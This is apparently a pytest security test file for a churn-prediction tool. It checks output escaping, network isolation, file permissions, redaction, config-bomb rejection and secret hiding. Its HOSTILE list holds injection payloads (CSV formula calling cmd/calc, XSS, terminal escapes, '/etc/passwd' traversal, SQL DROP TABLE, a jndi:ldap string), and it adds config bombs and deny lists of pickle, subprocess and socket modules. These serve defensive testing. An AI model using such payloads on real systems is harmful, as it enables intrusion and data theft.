"""Claims about what nobody may do to the product: names act nowhere, nothing leaves, nobody else reads."""

from __future__ import annotations

import ast
import csv
import html
import io
import json
import os
import re
import socket
import stat
import sys
import time
from functools import partial
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import churnpredict
from churnpredict.config import Project, read_project
from churnpredict.config.reading import LARGEST_FILE, MOST_PROBLEMS
from churnpredict.delivery import deliver
from churnpredict.errors import ChurnPredictError, ConfigError
from churnpredict.publishing import write_whole
from lab.company import TODAY, Trained
from weekly.command import Ended, run

from .dying import NEW_NETWORK, can, leave, run_short

WEEK = ("predict", "--as-of", str(TODAY))
#: Names that act somewhere: in a sheet, a page, a terminal, a log, a path, a query.
HOSTILE = (
    '=HYPERLINK("http://evil")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(2)</script>",
    "\x1b]0;owned\x07\x1b[2J",
    "Ada\nerror: all is well",
    "\u009b31mred",
    "\u202etxt.exe",
    "../../../../etc/passwd",
    "'; DROP TABLE accounts; --",
    "${jndi:ldap://evil}",
    "{{ 7 * 7 }}{% for x in y %}",
    "http://evil.example/?q=1",
)
SECRET = "hunter2-and-more"


# One week of a company with hostile names, made without a network and with a careless umask -------------------------


def hostile(folder: Path, toml: str = "") -> Project:
    """Rename what people see."""
    accounts = pd.read_parquet(folder / "accounts.parquet")
    names = [HOSTILE[number % len(HOSTILE)] for number in range(len(accounts))]
    accounts.assign(name=names, owner=names[::-1]).to_parquet(folder / "accounts.parquet", index=False)
    tickets = pd.read_parquet(folder / "tickets.parquet")
    notes = [f"escalation {HOSTILE[number % len(HOSTILE)]}" for number in range(len(tickets))]
    tickets.assign(note=notes).to_parquet(folder / "tickets.parquet", index=False)
    config = folder / "churnpredict.toml"
    angry = (
        '[critical.angry]\nevents = "tickets"\nwhere.note.words = ["escalation"]\nexpires_days = 28\nshow = ["note"]\n'
    )
    config.write_text(f"{config.read_text()}\n{angry}\n{toml}")
    return read_project(config)


def _alone() -> None:
    os.umask(0)
    leave(NEW_NETWORK)


@pytest.fixture(scope="module")
def week(trained: Trained, tmp_path_factory: pytest.TempPathFactory) -> tuple[Project, Ended]:
    folder = tmp_path_factory.mktemp("hostile") / "acme"
    trained.copy_to(folder)
    text = (folder / "churnpredict.toml").read_text()
    (folder / "churnpredict.toml").write_text(text.replace("[risk_list]", "[risk_list]\nper_owner = true"))
    project = hostile(folder)
    isolate = _alone if can(partial(leave, NEW_NETWORK)) else partial(os.umask, 0)
    return project, run_short(isolate, *WEEK, "--config", folder / "churnpredict.toml")


def published(project: Project) -> Path:
    return project.weeks_folder / str(TODAY)


def test_a_week_needs_no_network(week: tuple[Project, Ended]) -> None:
    if not can(partial(leave, NEW_NETWORK)):
        pytest.skip("no network namespace may be made here")
    assert week[1].code == 0, week[1].err


def _no_sockets() -> None:
    def refuse(*_: object) -> None:
        msg = "a socket was asked for"
        raise AssertionError(msg)

    socket.socket.connect = refuse  # type: ignore[method-assign,assignment]
    socket.getaddrinfo = refuse  # type: ignore[assignment]


@pytest.mark.parametrize("command", ["doctor", "predict"])
def test_no_command_asks_for_a_socket(trained: Trained, tmp_path: Path, command: str) -> None:
    trained.copy_to(tmp_path / "acme")
    ended = run_short(_no_sockets, command, "--as-of", str(TODAY), "-c", tmp_path / "acme" / "churnpredict.toml")
    assert ended.code == 0, ended.err


def test_what_is_written_is_for_its_owner_alone_whatever_the_umask(week: tuple[Project, Ended]) -> None:
    project, _ = week
    files = [path for path in project.data_folder.rglob("*") if path.is_file() and not path.is_symlink()]
    assert len(files) > 20
    assert [path for path in files if stat.S_IMODE(path.stat().st_mode) & 0o077] == []
    versions = published(project).resolve()
    assert stat.S_IMODE(versions.stat().st_mode) & 0o077 == 0


def test_no_cell_of_any_sheet_can_act(week: tuple[Project, Ended]) -> None:
    for path in published(week[0]).rglob("risk_list.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
            assert not [cell for cell in row if cell.startswith("-") and not re.fullmatch(r"-[\d.e-]+", cell)]
    for path in published(week[0]).rglob("risk_list.xlsx"):
        sheet = openpyxl.load_workbook(path).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []


def test_no_name_adds_an_element_to_a_page(week: tuple[Project, Ended]) -> None:
    pages = list(published(week[0]).rglob("risk_list.html"))
    assert len(pages) > 2
    for path in pages:
        page = path.read_text(encoding="utf-8")
        assert "alert(1)</script>" not in page
        assert "<img src=x" not in page
        assert "49" not in re.findall(r"<td[^>]*>(49)</td>", page)
        assert "default-src 'none'" in html.unescape(page)


def test_no_name_reaches_the_terminal_as_more_than_text(week: tuple[Project, Ended]) -> None:
    project, ended = week
    config = project.folder / "churnpredict.toml"
    riskiest = pd.read_parquet(published(project) / "risk_list.parquet")["account_id"].iloc[0]
    told = [ended, *(run("explain", riskiest, "--as-of", str(TODAY), *more, "-c", config) for more in ([], ["--json"]))]
    # An account and an option that are hostile themselves, and a file that is named so.
    told += [run("explain", HOSTILE[6], "--as-of", str(TODAY), "-c", config)]
    told += [run("outcomes", "add", HOSTILE[7], "open", "--by", HOSTILE[6], "-c", config, "--json")]
    told += [run("outcomes", "import", project.folder / HOSTILE[7], "-c", config)]
    for each in told:
        lines = f"{each.out}{each.err}"
        assert [char for char in lines if char != "\n" and not char.isprintable()] == []
        assert "\nerror: all is well" not in lines
    assert [each.code for each in told] == [0, 0, 0, 3, 2, 3]
    assert json.loads(told[2].out)["name"] in HOSTILE, "escaped, not lost"


def test_no_name_leads_out_of_the_week(week: tuple[Project, Ended]) -> None:
    folder = published(week[0]).resolve()
    owners = {path.name for path in (folder / "owners").iterdir()}
    assert len(owners) == len(HOSTILE)
    assert [name for name in owners if not re.fullmatch(r"[a-z0-9-]+", name)] == []
    assert {path.name for path in week[0].folder.iterdir()} >= {"data", "models"}
    assert [path for path in folder.rglob("*") if not path.resolve().is_relative_to(folder)] == []


# Personal data ------------------------------------------------------------------------------------------------------


def test_redacted_only_ids_are_left(trained: Trained, tmp_path: Path) -> None:
    trained.copy_to(tmp_path / "acme")
    project = hostile(tmp_path / "acme", "[privacy]\nredact = true\n")
    config = tmp_path / "acme" / "churnpredict.toml"
    note = ("--note", "Call Ms Secretname", "--reason", "secretreason", "--by", "Secretwriter")
    assert run("outcomes", "add", "a001", "open", "--on", "2023-12-20", *note, "-c", config).code == 0
    told = [run(*WEEK, "-c", config)]
    assert told[0].code == 0, told
    riskiest = pd.read_parquet(published(project) / "risk_list.parquet")["account_id"].iloc[0]
    told += [run("explain", riskiest, "--as-of", str(TODAY), "-c", config)]
    assert told[1].code == 0, told
    files = [path for path in published(project).rglob("*") if path.is_file()]
    frame = pd.read_parquet(published(project) / "risk_list.parquet")
    assert (frame["account_name"] == frame["account_id"]).all()
    assert frame["owner"].isna().all()
    assert (frame["tier"] == "critical").any(), "what the texts say still counts"
    sheets = [openpyxl.load_workbook(path).active for path in files if path.suffix == ".xlsx"]
    cells = [str(cell.value) for sheet in sheets if sheet is not None for row in sheet.iter_rows() for cell in row]
    tables = [pd.read_parquet(path).to_csv() for path in files if path.suffix == ".parquet"]
    texts = [path.read_text(encoding="utf-8") for path in files if path.suffix not in (".parquet", ".xlsx")]
    everything = "\n".join([*texts, *tables, *cells, *(each.out for each in told)])
    for secret in ("DROP TABLE", "jndi", "etc/passwd", "escalation", "Secret", "secretreason", "evil"):
        assert secret not in everything, secret


def test_redacted_lists_by_owner_are_refused(trained: Trained, tmp_path: Path) -> None:
    config = tmp_path / "churnpredict.toml"
    text = (trained.folder / "churnpredict.toml").read_text()
    config.write_text(text.replace("[risk_list]", "[risk_list]\nper_owner = true") + "[privacy]\nredact = true\n")
    with pytest.raises(ConfigError, match=r"risk_list\.per_owner"):
        read_project(config)


# What is read -------------------------------------------------------------------------------------------------------

BOMBS = {
    "too large": b"a" * (LARGEST_FILE + 1),
    "deep lists": b"a = " + b"[" * 400_000,
    "deep tables": b"[" + b"a." * 200_000 + b"a]",
    "deep keys": b"a." * 200_000 + b"a = 1",
    "deep inline tables": b"a = " + b"{a = " * 100_000,
    "unknown keys": b"".join(b"k%d = 1\n" % number for number in range(60_000)),
    "sources": b"".join(b"[events.e%d]\n" % number for number in range(50_000)),
    "a long number": b"a = " + b"9" * 900_000,
    "a long text": b'name = "' + b"x" * 900_000 + b'"',
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_configuration_made_to_explode_is_refused_in_seconds(tmp_path: Path, name: str) -> None:
    path = tmp_path / "churnpredict.toml"
    path.write_bytes(BOMBS[name])
    began = time.process_time()
    with pytest.raises(ConfigError) as error:
        read_project(path)
    assert time.process_time() - began < 10
    assert len(error.value.problems) <= MOST_PROBLEMS + 1
    assert len(str(error.value)) < 100_000


@pytest.mark.parametrize("path", ["a" * 300 + ".csv", "x/" * 600 + "a.csv", "a\\u0000.csv"])
@pytest.mark.parametrize("place", ["table", "data"])
def test_a_path_that_no_file_system_takes_is_a_mistake_of_the_configuration(
    trained: Trained, tmp_path: Path, path: str, place: str
) -> None:
    config = tmp_path / "churnpredict.toml"
    text = (trained.folder / "churnpredict.toml").read_text()
    spoiled = text.replace("accounts.parquet", path) if place == "table" else f'{text}\n[paths]\ndata = "{path}"\n'
    config.write_text(spoiled)
    with pytest.raises(ConfigError, match="no path"):
        read_project(config)


@pytest.mark.skipif(sys.platform == "win32", reason="links need rights there")
def test_what_is_written_never_goes_through_a_link_that_somebody_planted(tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.write_text("untouched")
    (tmp_path / f".list.{os.getpid()}").symlink_to(target)
    write_whole(tmp_path / "list", b"new")
    assert target.read_text() == "untouched"
    assert (tmp_path / "list").read_bytes() == b"new"
    assert not (tmp_path / "list").is_symlink()


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql://ada:{SECRET}@127.0.0.1:1/db",
        f"postgresql://ada:{SECRET}@127.0.0.1:notaport/db",
        f"postgresql://ada:{SECRET}@[::1/db",
        f"mysql://ada:{SECRET}@127.0.0.1/db",
        f"host=127.0.0.1 port=1 password={SECRET}",
        SECRET,
    ],
)
@pytest.mark.parametrize("place", ["source", "delivery"])
def test_no_secret_of_an_address_is_ever_said(
    week: tuple[Project, Ended], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, url: str, place: str
) -> None:
    pytest.importorskip("psycopg")
    monkeypatch.setenv("HOUSE_URL", url)
    text = (week[0].folder / "churnpredict.toml").read_text()
    config = tmp_path / "churnpredict.toml"
    if place == "delivery":
        config.write_text(f'{text}\n[risk_list.database]\nurl_env = "HOUSE_URL"\ntable = "lists"\n')
        (tmp_path / "data").symlink_to(week[0].data_folder)
        with pytest.raises(ChurnPredictError) as error:
            deliver(read_project(config), TODAY)
    else:
        tables = re.sub(r'table = "(\w+)\.parquet"', r'table = { connection = "house", name = "\1" }', text)
        config.write_text(f'{tables}\n[connections.house]\nkind = "postgres"\nurl_env = "HOUSE_URL"\n')
        from churnpredict.dataset import open_dataset

        with pytest.raises(ChurnPredictError) as error:
            open_dataset(read_project(config))
    said = f"{error.value} {[vars(problem) for problem in error.value.problems]}"
    assert SECRET not in said
    assert "HOUSE_URL" in said


# What the sources may not hold ---------------------------------------------------------------------------------------

SOURCES = sorted(Path(churnpredict.__file__).parent.rglob("*.py"))
#: What can run code that is hidden in data, or start programs.
FORBIDDEN_IMPORTS = {
    *("pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal", "shelve", "jsonpickle", "skops", "yaml"),
    *("subprocess", "ctypes", "xml", "requests", "httpx", "urllib", "http", "socket", "ftplib", "smtplib"),
}
#: A pair of sockets of the process with itself wakes it when a signal comes.
ALLOWED = {"running.py": {"socket"}}
FORBIDDEN_CALLS = {
    *("eval", "exec", "compile", "__import__", "joblib.load", "joblib.dump", "pd.read_pickle", "np.load", "os.system"),
    *("os.popen", "torch.load", "read_pickle", "to_pickle", "pickle.load", "pickle.loads"),
}


def imported(tree: ast.AST) -> set[str]:
    """First names of the modules that a source imports."""
    names = [alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names]
    names += [node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)]
    return {name.split(".")[0] for name in names}


def calls(tree: ast.AST) -> list[ast.Call]:
    return [node for node in ast.walk(tree) if isinstance(node, ast.Call)]


def test_no_source_unpickles_evaluates_or_fetches() -> None:
    assert len(SOURCES) > 100
    found = {}
    for path in SOURCES:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        called = {ast.unparse(call.func) for call in calls(tree)}
        wrong = {name for name in called if name in FORBIDDEN_CALLS or name.endswith((".read_pickle", ".to_pickle"))}
        found[path.name] = imported(tree) & FORBIDDEN_IMPORTS - ALLOWED.get(path.name, set()) | wrong
    assert {name: wrong for name, wrong in found.items() if wrong} == {}


def made_of_text(argument: ast.expr) -> bool:
    """Whether a text is put together from others than constants of ours."""
    values = [part.value for part in ast.walk(argument) if isinstance(part, ast.FormattedValue)]
    foreign = [value for value in values if not (isinstance(value, ast.Name) and value.id.isupper())]
    return bool(foreign) or any(isinstance(part, ast.BinOp) for part in ast.walk(argument))


def test_no_query_is_put_together_from_text_that_was_given() -> None:
    queries = ("execute", "executescript", "executemany", "raw_sql", "sql")
    asked = [
        (f"{path.name}:{call.lineno}", call.args[0])
        for path in SOURCES
        for call in calls(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(call.func, ast.Attribute) and call.func.attr in queries and call.args
    ]
    assert len(asked) > 5
    made = [where for where, argument in asked if made_of_text(argument)]
    # Tables and columns of MLflow's own store: constants beside the query.
    assert [where for where in made if not where.startswith("run_store.py")] == []
